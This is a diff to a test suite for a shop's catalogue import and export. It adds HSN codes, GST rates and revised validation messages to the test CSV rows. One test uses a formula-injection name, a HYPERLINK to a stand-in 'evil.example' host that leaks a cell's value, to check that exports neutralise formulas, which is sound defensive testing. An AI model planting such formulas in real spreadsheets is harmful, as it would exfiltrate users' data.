@@ -73,25 +73,26 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
       `${sku('ATTA')},,Whole wheat atta,${cat.name},,Haat,5 kg,,249.50,5,40,,1101,5,Stone ground,`,
       `${sku('ATTA-10')},${sku('ATTA')},,,,,,10 kg,479,,15,,,,,`,
       `${sku('RICE')},,Basmati rice,No such shelf,,,1 kg,,199,,10,,,7,,`,
-      `${sku('OIL')},,Mustard oil,${cat.name},${sub.name},,1 l,,189.999,,10,,,,,`,
-      `${sku('OIL')},,Mustard oil again,${cat.name},,,1 l,,189,,10,,,,,`,
-      `${sku('GHEE')},,,${cat.name},,,500 g,,,,,,,,,`,
+      `${sku('OIL')},,Mustard oil,${cat.name},${sub.name},,1 l,,189.999,,10,,2106,5,,`,
+      `${sku('OIL')},,Mustard oil again,${cat.name},,,1 l,,189,,10,,2106,5,,`,
+      `${sku('GHEE')},,,${cat.name},,,500 g,,,,,,2106,5,,`,
     );
     const before = await t.db.select({ n: sql<number>`count(*)::int` }).from(products);
     const report = await dryRun({ file });
     expect(report).toMatchObject({ total: 6, creates: 2, updates: 0, unchanged: 0, conflicts: 0 });
     expect(report.errors).toEqual([
+      { row: 4, column: 'hsn', message: 'is required for a new product' },
       { row: 4, column: 'category', message: '"No such shelf" is not a category of the shop' },
-      { row: 4, column: 'gst_rate', message: 'must be 0, 5, 12, 18 or 28' },
-      { row: 5, column: 'price', message: 'must be in whole paise (at most two decimals)' },
-      { row: 6, column: 'sku', message: 'is also in row 5' },
+      { row: 4, column: 'gst_rate', message: 'must be a GST rate in force today (0, 0.25, 1.5, 3, 5, 18, 28, 40)' },
+      { row: 5, column: 'sku', message: 'is in rows 5, 6: a SKU may be in one row only, so none of them is imported' },
+      { row: 6, column: 'sku', message: 'is in rows 5, 6: a SKU may be in one row only, so none of them is imported' },
       { row: 7, column: 'name', message: 'is required for a new product' },
       { row: 7, column: 'price', message: 'is required for a new product' },
     ]);
     expect(await t.db.select({ n: sql<number>`count(*)::int` }).from(products)).toEqual(before);
 
     const hindi = await dryRun({ file, lang: 'hi-IN' });
-    expect(hindi.errors[0]).toEqual({ row: 4, column: 'category', message: '"No such shelf" दुकान की कोई कैटेगरी नहीं है' });
+    expect(hindi.errors[1]).toEqual({ row: 4, column: 'category', message: '"No such shelf" दुकान की कोई कैटेगरी नहीं है' });
   });
 
   it('a file without the sku column, or with a column it does not know, is refused at row 1', async () => {
@@ -106,7 +107,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
     const file = csv(
       `${sku('DAL')},,Toor dal,${cat.name},${sub.name},Haat,1 kg,,139,0,25,,0713,5,,`,
       `${sku('DAL-2')},${sku('DAL')},,,,,,2 kg,269,,8,,,,,`,
-      `${sku('SALT')},,Rock salt,${cat.name},,,1 kg,,49,,30,,,,,`,
+      `${sku('SALT')},,Rock salt,${cat.name},,,1 kg,,49,,30,,2106,5,,`,
     );
     const job = await applied({ file });
     expect(job).toMatchObject({ state: 'done', done: 3, total: 3, creates: 3, updates: 0, unchanged: 0, errors: [] });
@@ -126,7 +127,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
   });
 
   it.each(['csv', 'xlsx'] as const)('an export (%s) imported again is all unchanged; an edited price is one update', async (format) => {
-    await applied({ file: csv(`${sku(`RT-${format}`)},,Round trip ${format},${cat.name},,,1 pc,,99.5,10,7,,,,"Has, a comma",`) });
+    await applied({ file: csv(`${sku(`RT-${format}`)},,Round trip ${format},${cat.name},,,1 pc,,99.5,10,7,,2106,5,"Has, a comma",`) });
     const file = await exported(format);
     const name = `catalogue.${format}`;
     const report = await dryRun({ file, name });
@@ -142,7 +143,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
   it.each(['csv', 'xlsx'] as const)('a cell that would run as a formula is exported as text (%s) and read back as it was', async (format) => {
     const name = `=HYPERLINK("http://evil.example/?leak="&A1,"Atta ${format}")`;
     const sheetSku = sku(`FORMULA-${format}`);
-    await applied({ file: csv(`${sheetSku},,"${name.replace(/"/g, '""')}",${cat.name},,@home,1 kg,,99,,5,,,,-stone ground,`) });
+    await applied({ file: csv(`${sheetSku},,"${name.replace(/"/g, '""')}",${cat.name},,@home,1 kg,,99,,5,,2106,5,-stone ground,`) });
     expect(await productBySku(sheetSku)).toMatchObject({ name, description: '-stone ground', moreDetails: { Brand: '@home' } });
     const file = await exported(format);
     const cells = await exportedRow(file, format, sheetSku);
@@ -156,7 +157,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
 
   it('the words of imported products are searchable once their batch is written', async () => {
     const word = `kasuri${tag.toLowerCase().replace(/[^a-z]/g, '')}`;
-    await applied({ file: csv(`${sku('METHI')},,${word} methi,${cat.name},,,100 g,,60,,5,,,,,`) });
+    await applied({ file: csv(`${sku('METHI')},,${word} methi,${cat.name},,,100 g,,60,,5,,2106,5,,`) });
     const stem = sql`(tsvector_to_array(to_tsvector('english', ${word})))[1]`;
     const learnt = await t.db
       .select({ word: searchWords.word })
@@ -166,7 +167,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
   });
 
   it('a stock that moved since the export is a conflict, and that row is not applied at all', async () => {
-    await applied({ file: csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,45,,20,,,,,`) });
+    await applied({ file: csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,45,,20,,2106,5,,`) });
     const p = await productBySku(sku('SUGAR'));
     // An order or an admin changes the stock after the export was taken (20 → 18).
     const moved = await api(t)
@@ -174,7 +175,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
       .set(bearer(admin))
       .send({ productId: p!.id, variantId: null, stock: 18, expectedStock: 20 });
     expect(moved.status).toBe(200);
-    const file = csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,50,,25,20,,,,`);
+    const file = csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,50,,25,20,2106,5,,`);
     const report = await dryRun({ file });
     expect(report).toMatchObject({ conflicts: 1, updates: 0, errors: [] });
     expect(report.conflictRows).toEqual([{ row: 2, column: 'stock', message: expect.stringContaining('it is now 18, the file says 20') }]);
@@ -182,11 +183,11 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
     expect(job).toMatchObject({ state: 'done', conflicts: 1, updates: 0 });
     expect((await productBySku(sku('SUGAR')))!.price).toBe(45);
     // With the figure it replaces, the new one is taken.
-    expect(await applied({ file: csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,50,,25,18,,,,`) })).toMatchObject({ updates: 1, conflicts: 0 });
+    expect(await applied({ file: csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,50,,25,18,2106,5,,`) })).toMatchObject({ updates: 1, conflicts: 0 });
   });
 
   it('a product whose write fails half-way keeps everything as it was', async () => {
-    await applied({ file: csv(`${sku('TEA')},,Tea,${cat.name},,,250 g,,120,,10,,,,,`) });
+    await applied({ file: csv(`${sku('TEA')},,Tea,${cat.name},,,250 g,,120,,10,,2106,5,,`) });
     // The database refuses the option's row: the product's own row was updated first, in the same transaction.
     await t.db.execute(sql.raw(`create or replace function refuse_boom() returns trigger language plpgsql as $$ begin raise exception 'refused'; end $$`));
     await t.db.execute(
@@ -194,7 +195,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
     );
     try {
       const job = await applied({
-        file: csv(`${sku('TEA')},,Tea leaves,${cat.name},,,250 g,,130,,10,10,,,,`, `${sku('TEA-BOOM')},${sku('TEA')},,,,,,1 kg,400,,,,,,,`),
+        file: csv(`${sku('TEA')},,Tea leaves,${cat.name},,,250 g,,130,,10,10,2106,5,,`, `${sku('TEA-BOOM')},${sku('TEA')},,,,,,1 kg,400,,,,,,,`),
       });
       expect(job).toMatchObject({
         state: 'done',
@@ -212,7 +213,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
 
   it('a file of many products (several written at once on PostgreSQL) writes each whole; a failing one alone is left out', async () => {
     const skus = Array.from({ length: 30 }, (_, i) => sku(`MANY-${i}`));
-    await applied({ file: csv(...skus.slice(0, 10).map((s) => `${s},,Many ${s},${cat.name},,,1 kg,,10,,5,,,,,`)) });
+    await applied({ file: csv(...skus.slice(0, 10).map((s) => `${s},,Many ${s},${cat.name},,,1 kg,,10,,5,,2106,5,,`)) });
     await t.db.execute(sql.raw(`create or replace function refuse_many() returns trigger language plpgsql as $$ begin raise exception 'refused'; end $$`));
     await t.db.execute(
       sql.raw(
@@ -220,7 +221,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
       ),
     );
     try {
-      const rows = skus.map((s, i) => `${s},,Many ${s},${cat.name},,,1 kg,,${i < 10 ? 11 : 10},,5,${i < 10 ? 5 : ''},,,,`);
+      const rows = skus.map((s, i) => `${s},,Many ${s},${cat.name},,,1 kg,,${i < 10 ? 11 : 10},,5,${i < 10 ? 5 : ''},2106,5,,`);
       rows.splice(20, 0, `${sku('MANY-BOOM')},${skus[19]},,,,,,2 kg,30,,1,,,,,`);
       const job = await applied({ file: csv(...rows) });
       expect(job).toMatchObject({ state: 'done', total: 31, updates: 10, creates: 19, skipped: 1 });
@@ -242,7 +243,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
       .png()
       .toBuffer();
     const pictures = Buffer.from(zipSync({ 'shots/red.png': png, 'notes.txt': Buffer.from('not a picture') }));
-    const file = csv(`${sku('JAM')},,Jam,${cat.name},,,200 g,,90,,5,,,,,red.png`);
+    const file = csv(`${sku('JAM')},,Jam,${cat.name},,,200 g,,90,,5,,2106,5,,red.png`);
     const job = await applied({ file, pictures });
     expect(job).toMatchObject({ state: 'done', creates: 1 });
     const image = (await productBySku(sku('JAM')))!.image;
@@ -250,7 +251,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
     expect((await api(t).get(image[0]!)).status).toBe(200);
     expect(await dryRun({ file, pictures })).toMatchObject({ unchanged: 1, errors: [] });
     const bad = await dryRun({
-      file: csv(`${sku('JAM')},,Jam,${cat.name},,,200 g,,90,,5,,,,,notes.txt`, `${sku('FIG')},,Figs,${cat.name},,,1 kg,,90,,5,,,,,gone.png`),
+      file: csv(`${sku('JAM')},,Jam,${cat.name},,,200 g,,90,,5,,2106,5,,notes.txt`, `${sku('FIG')},,Figs,${cat.name},,,1 kg,,90,,5,,2106,5,,gone.png`),
       pictures,
     });
     expect(bad.errors).toEqual([
@@ -306,7 +307,7 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
       .select({ n: sql<number>`count(*)::int` })
       .from(stockMovements)
       .where(and(eq(stockMovements.reason, 'import')));
-    await dryRun({ file: csv(`${sku('NEW-ONLY')},,New only,${cat.name},,,1 pc,,10,,3,,,,,`) });
+    await dryRun({ file: csv(`${sku('NEW-ONLY')},,New only,${cat.name},,,1 pc,,10,,3,,2106,5,,`) });
     expect(
       await t.db
         .select({ n: sql<number>`count(*)::int` })
